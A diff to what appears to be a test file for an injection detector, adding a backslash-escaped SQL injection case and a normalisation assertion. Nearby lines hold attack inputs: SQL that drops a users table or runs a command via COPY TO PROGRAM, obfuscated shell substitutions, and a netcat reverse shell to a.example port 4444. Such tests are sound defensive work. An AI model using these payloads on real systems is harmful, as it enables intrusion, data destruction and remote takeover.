@@ -86,6 +86,7 @@ ATTACKS = [
     # the rules before it)
     ("sql: line comments before statement words", SQL, "lookup_order", "order_id", "1;#x\nDROP#x\nTABLE users"),
     ("sql: encoded line comments before a COPY", SQL, "lookup_order", "order_id", "1;#%0aCOPY#%0a(SELECT#%0a'')#%0aTO#%0aPROGRAM#%0a'id'--"),
+    ("sql: quotes escaped with a backslash", SQL, "lookup_order", "order_id", "1\\' AND \\'1\\'=\\'1"),
     ("cmd: octal ANSI-C string", CMD, "backup", "name", "x$($'\\151\\144')"),
     ("cmd: a quoted piece closing a word", CMD, "ping_host", "host", "x\nl\"s\" -la /root"),
     ("cmd: a quoted piece in a substitution", CMD, "ping_host", "host", "$(n\"c\" a.example 4444 -e /bin/bash)"),
@@ -266,6 +267,7 @@ class NormaliseTests(SynchronousTestCase):
         self.assertEqual(foldSQL("-1#x\nunion select 1"), "-1 union select 1")
         self.assertEqual(foldSQL("a # heading\nsome prose"), "a # heading some prose")
         self.assertEqual(foldSQL("1;-- x\nDROP-- x\nTABLE t"), "1; DROP TABLE t")
+        self.assertEqual(foldSQL("x\\' or \\'a\\'=\\'a"), "x' or 'a'='a")
 
     def test_shell(self) -> None:
         self.assertEqual(foldShell("a=c;b=at;$a$b /etc/hosts"), "a=c;b=at;cat /etc/hosts")
